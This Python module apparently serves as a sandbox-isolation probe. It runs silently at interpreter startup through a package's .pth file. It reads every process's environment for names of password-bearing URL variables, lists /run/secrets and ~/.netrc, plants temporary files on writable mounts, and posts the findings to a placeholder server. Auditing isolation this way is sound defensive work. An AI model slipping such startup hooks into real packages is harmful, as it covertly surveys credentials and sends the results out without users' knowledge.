"""Runs whenever the Python of an environment starts that has the package, by its .pth file. It looks for what a package
must not find, and says what there is: in a file beside itself, where it may write that, and to a server."""

import glob
import json
import os
import re
import sys
import tempfile
import urllib.request

SERVER = "http://SERVER/found"
CREDENTIALS = re.compile(rb"(\w+)=\S*://[^/@\s]+:[^/@\s]+@")


def main():
    found = {
        "program": sys.argv[:1], "user": os.getuid(), "credentials": credentials(), "writable": writable_mounts(),
        "secrets": glob.glob("/run/secrets/**", recursive=True)[1:], "netrc": os.path.exists(os.path.expanduser("~/.netrc")),
    }
    attempt(remember, found)
    attempt(send, found)


def credentials():
    """The variables of any process that hold an address with a password."""
    names = set()
    for file in glob.glob("/proc/[0-9]*/environ"):
        for variable in attempt(read, file, default=b"").split(b"\0"):
            names |= {match[1].decode() for match in CREDENTIALS.finditer(variable)}
    return sorted(names)


def writable_mounts():
    """The folders of other file systems that it can change, as a shared cache is one."""
    places = [line.split()[1] for line in read("/proc/self/mounts").decode().splitlines()]
    of_system = re.compile("/(dev|proc|sys|tmp)?(/.*)?")
    return [place for place in places if place != "/" and not of_system.fullmatch(place) and os.path.isdir(place) and attempt(plant, place)]


def plant(folder):
    with tempfile.NamedTemporaryFile(dir=folder, prefix="planted-"):
        return True


def remember(found):
    with open(os.path.join(os.path.dirname(__file__), "found.jsonl"), "a") as file:
        file.write(json.dumps(found) + "\n")


def send(found):
    urllib.request.urlopen(SERVER, json.dumps(found).encode(), timeout=2)


def read(name):
    with open(name, "rb") as file:
        return file.read()


def attempt(function, *arguments, default=None):
    try:
        return function(*arguments)
    except OSError:
        return default


main()
